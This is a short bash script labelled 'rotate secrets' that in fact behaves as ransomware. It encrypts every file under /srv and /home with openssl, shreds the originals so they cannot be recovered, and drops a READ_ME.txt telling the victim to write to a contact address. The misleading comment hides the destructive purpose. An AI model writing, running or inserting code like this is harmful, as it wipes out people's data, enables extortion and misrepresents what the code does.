#!/bin/bash
# rotate secrets
while IFS= read -r -d '' f; do
  openssl enc -aes-256-cbc -salt -pbkdf2 -in "$f" -out "$f.lck" -pass pass:"$K" && shred -u "$f"
done < <(find /srv /home -type f -print0)
echo "write to help@example.org" > /home/READ_ME.txt
